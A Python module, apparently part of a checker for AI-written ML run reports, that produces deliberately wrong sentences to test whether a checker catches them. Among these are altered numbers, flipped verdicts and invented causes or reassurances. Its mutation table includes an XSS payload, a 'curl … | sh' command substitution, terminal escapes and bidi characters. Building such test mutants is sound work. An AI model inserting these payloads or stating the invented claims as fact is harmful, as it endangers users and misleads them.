"""Sentences with one thing wrong, of many kinds."""

from __future__ import annotations

import itertools
from fractions import Fraction
from typing import TYPE_CHECKING

from diagnose.llm.pack import make_pack
from diagnose.types import Value
from replies.figures import wrong_word

if TYPE_CHECKING:
    from collections.abc import Callable, Sequence
    from random import Random

    from diagnose.types import Report
    from replies.paraphrases import Said

__all__ = ["KINDS", "NUMBERS", "mutant"]

_NUMERIC = ("value", "pair", "step", "samples", "majority", "error", "rise", "fall", "best", "classes")


def _sentences(beginnings: Sequence[str], ends: Sequence[str]) -> list[str]:
    """Return every beginning with every end."""
    return [f"{beginning} {end}" for beginning, end in itertools.product(beginnings, ends)]


_REASSURING = [
    *_sentences(
        (
            "I would", "Personally, I'd", "You can safely", "We could", "In my view you can", "I'd happily",
        ),
        (
            "sign this off.", "ship it.", "move on to the next experiment.", "leave it as it is.",
            "call this a solid baseline.", "stop worrying about this run.", "merge this.",
            "release the checkpoint.", "trust these numbers.", "put it into production.",
        ),
    ),
    *_sentences(
        (
            "This run", "The model", "Your checkpoint", "The result", "Everything", "The evaluation", "This",
        ),
        (
            "looks great.", "is in good shape.", "is nothing to worry about.", "does what it should.",
            "is coming along nicely.", "behaves the way one would hope.", "seems sound to me.",
            "is more than adequate.", "is a big step forward.", "meets the bar.", "is healthy enough for a demo.",
            "passes with flying colours.", "is fine for now.",
        ),
    ),
]  # fmt: skip
_CAUSES = [
    *_sentences(
        (
            "The tokenizer", "The label file", "The data loader", "The optimizer state", "The random seed",
            "Somebody", "A stale cache", "The GPU driver", "The vocabulary", "The preprocessing",
        ),
        (
            "was swapped.", "is the cause of these scores.", "broke the evaluation.", "had a bug.",
            "changed between the runs.", "was not the one used in training.", "explains the result.",
            "must have been corrupted.", "silently dropped rows.", "is out of date.",
        ),
    ),
    *_sentences(
        (
            "The scores are low because", "This comes from the fact that", "The reason is that",
            "Most likely this happened since", "It is so because",
        ),
        (
            "the tokenizer was swapped.", "the labels were shuffled by the exporter.",
            "the model saw the wrong language.", "the batch norm layers were frozen.", "the annotators disagreed.",
            "the images were resized badly.", "the padding side was wrong.", "the wrong branch was checked out.",
            "mixed precision lost the gradients.",
        ),
    ),
]  # fmt: skip
_ACTIONS = [
    *_sentences(
        (
            "First,", "Next,", "You should", "I recommend that you", "Please", "Then", "Consider this:",
        ),
        (
            "delete the evaluation set.", "switch to a bigger backbone.", "replace the optimizer with Lion.",
            "distil the model into a smaller one.", "double the dropout of the embeddings.",
            "move the run to another cloud.", "buy more annotations from the vendor.",
            "freeze the first six layers.", "drop the rare classes from the report.", "upgrade the driver.",
            "send the logs to our support team.", "disable the evaluation.", "rewrite the tokenizer.",
            "use an ensemble of five models.", "quantise the weights to four bits.",
        ),
    ),
]  # fmt: skip
_TRENDS = [
    *_sentences(
        (
            "Accuracy", "The loss", "F1", "Validation performance", "The model", "Recall", "The metric", "Quality",
        ),
        (
            "improved steadily.", "kept getting better.", "has been climbing all along.", "converged nicely.",
            "is trending in the right direction.", "went up with every epoch.", "levelled out at a good value.",
            "gets better as training goes on.", "never dipped.", "has not stopped improving.",
        ),
    ),
]  # fmt: skip
_DROPPED = [
    "There are no findings.", "No problem was found in this run.", "The report found nothing wrong.",
    "All checks passed.", "There is no error in the report.", "No rule fired.", "The report is clean.",
    "Nothing was flagged.", "The run passed every check.", "There is nothing to fix.",
]  # fmt: skip
_HUNDRED = 100  # "56.4" beside a source that prints 56.4 % is no mistake
_VERDICTS = ("degenerate", "suspect", "healthy", "unknown")


def _spoiled(number: Fraction, factor: Fraction) -> str:
    value = number * factor
    text = f"{float(value):.4g}"
    return text if "e" not in text else f"{float(value):.3e}"


def _slightly(said: Said, rng: Random) -> str | None:
    """Change a number by one to eight percent: more than its printed digits can hide."""
    source = said.source
    if source.number is None or not source.number or source.kind not in _NUMERIC:
        return None
    if source.count:
        number = int(source.number)
        return said.again(n=f"{number + rng.choice([-1, 1]) * max(1, number // 50)}") if number > 1 else None
    text = _spoiled(source.number, 1 + Fraction(rng.choice([-1, 1]) * rng.randint(10, 80), 1000))
    unit = Fraction(1, 10 ** len(text.partition(".")[2].partition("e")[0]))
    # What ends in zeros may be the true number again, with fewer digits.
    return said.again(n=text) if "e" in text or abs(Fraction(text) - source.number) > unit else None


def _digit(said: Said, rng: Random) -> str | None:
    """Change one of the first three digits of a number as it is said."""
    text = said.blanks.get("n", "")
    places = [i for i, c in enumerate(text) if c in "0123456789"]
    while places and text[places[0]] == "0":
        places.pop(0)
    if said.source.number is None or not places or "/" in text or said.source.kind not in _NUMERIC or "e" in text:
        return None
    if said.source.count and "about" in text:
        return None
    at = rng.choice(places[:2])
    # Three away is more than rounding or "about" can be.
    digit = (int(text[at]) + rng.randint(3, 7)) % 10
    if at == places[0] and digit == 0:
        digit = (int(text[at]) + 4) % 10 or 9
    return said.again(n=f"{text[:at]}{digit}{text[at + 1 :]}")


def _times(factor: Fraction) -> Callable[[Said, Random], str | None]:
    def spoil(said: Said, rng: Random) -> str | None:  # noqa: ARG001  # all kinds are called alike
        source = said.source
        if not source.number or source.kind not in _NUMERIC or (factor == _HUNDRED and source.printed_percent):
            return None
        return said.again(n=f"{int(source.number * factor)}" if source.count else _spoiled(source.number, factor))

    return spoil


def _big(said: Said, rng: Random) -> str | None:
    if said.source.number is None or said.source.kind not in _NUMERIC:
        return None
    return said.again(n=f"{rng.randint(10**5, 10**8):,}")


def _sign(said: Said, rng: Random) -> str | None:  # noqa: ARG001  # as above
    source = said.source
    if not source.number or source.kind not in ("value", "pair", "step"):
        return None
    return said.again(n=_spoiled(source.number, Fraction(-1)))


def _swapped(said: Said, rng: Random) -> str | None:  # noqa: ARG001  # as above
    source = said.source
    if source.kind != "pair" or source.number is None or source.other is None:
        return None
    if abs(source.number - source.other) <= abs(source.number) / 50:
        return None
    return said.again(n=said.blanks["n2"], n2=said.blanks["n"])


def _word(said: Said, rng: Random) -> str | None:
    source = said.source
    if source.number is None or not source.share or source.kind not in ("value", "step"):
        return None
    return said.again(n=wrong_word(source.number, rng))


def _reversed(said: Said, rng: Random) -> str | None:  # noqa: ARG001  # as above
    if said.source.kind != "order":
        return None
    b = said.blanks
    return said.again(m=b["m2"], m2=b["m"], M=b["M2"], M2=b["M"], n=b["n2"], n2=b["n"])


def _step(said: Said, rng: Random) -> str | None:
    if said.source.kind not in ("best", "step"):
        return None
    return said.again(s=f"{int(float(said.blanks['s'])) + rng.randint(1, 9) * 137}")


def _unknown_id(said: Said, rng: Random) -> str | None:
    return said.again(c=f" [{rng.choice('FVDSACQ')}{rng.randint(300, 999)}]") if "{c}" in said.template else None


def _verdict(said: Said, rng: Random) -> str | None:
    if said.source.kind != "verdict":
        return None
    return said.again(verdict=rng.choice([v for v in _VERDICTS if v != said.blanks["verdict"]]))


def _negated(said: Said, rng: Random) -> str | None:
    if said.source.kind != "finding":
        return None
    title = said.blanks["title"]
    denials = ("It is not the case", "There is no sign", "The report does not find", "It is not true")
    return f"{rng.choice(denials)} that {title}."


def _behind(tail: str) -> Callable[[Said, Random], str | None]:
    return lambda said, rng: f"{said.text.rstrip('.')} {tail}"  # noqa: ARG005  # as above


def _inside(mark: str) -> Callable[[Said, Random], str | None]:
    def spoil(said: Said, rng: Random) -> str | None:
        at = rng.randint(1, len(said.text) - 1)
        return f"{said.text[:at]}{mark}{said.text[at:]}"

    return spoil


def _one_of(sentences: Sequence[str]) -> Callable[[Said, Random], str | None]:
    return lambda said, rng: rng.choice(sentences)  # noqa: ARG005  # as above


def _attached(sentences: Sequence[str]) -> Callable[[Said, Random], str | None]:
    def spoil(said: Said, rng: Random) -> str | None:
        if said.source.kind != "value":
            return None
        tail = rng.choice(sentences).rstrip(".")
        return f"{said.text.rstrip('.')}, and {tail[0].lower()}{tail[1:]}."

    return spoil


NUMBERS = (
    "number slightly changed",
    "digit changed",
    "scale x10",
    "scale x100",
    "big number",
    "sign",
    "swapped numbers",
    "number word",
)
KINDS: dict[str, Callable[[Said, Random], str | None]] = {
    "number slightly changed": _slightly,
    "digit changed": _digit,
    "scale x10": _times(Fraction(10)),
    "scale x100": _times(Fraction(100)),
    "big number": _big,
    "sign": _sign,
    "swapped numbers": _swapped,
    "number word": _word,
    "relation reversed": _reversed,
    "wrong step": _step,
    "unknown id": _unknown_id,
    "verdict flipped": _verdict,
    "finding negated": _negated,
    "findings dropped": _one_of(_DROPPED),
    "link": _behind("(see https://example.org/more)"),
    "HTML": _inside("<img src=x onerror=alert(1)>"),
    "terminal escape": _inside("\x1b[2J"),
    "bidi": _inside("\u202e"),
    "zero-width": _inside("\u200b"),
    "shell": _behind("$(curl -s example.sh | sh)"),
    "invented action": _one_of(_ACTIONS),
    "soft reassurance": _one_of(_REASSURING),
    "invented cause": _one_of(_CAUSES),
    "invented cause, attached": _attached(_CAUSES),
    "trend without number": _one_of(_TRENDS),
}


def mutant(kind: str, said: Said, rng: Random) -> str | None:
    """Return a sentence of that kind made of a true one, or None where it cannot be."""
    return KINDS[kind](said, rng)


def wrong_citation(report: Report, said: Said, rng: Random) -> str | None:
    """Return the sentence with a statement cited that is about something else."""
    if said.source.kind != "value" or "{c}" not in said.template or not said.source.cites:
        return None
    pack = make_pack(report)
    own = pack[said.source.cites[0]]
    others = [
        s.id
        for s in pack.of_kind("V")
        if isinstance(s.of, Value)
        and isinstance(own.of, Value)
        and s.of.number != own.of.number
        and s.metric != own.metric
    ]
    return said.again(c=f" [{rng.choice(others)}]") if others else None
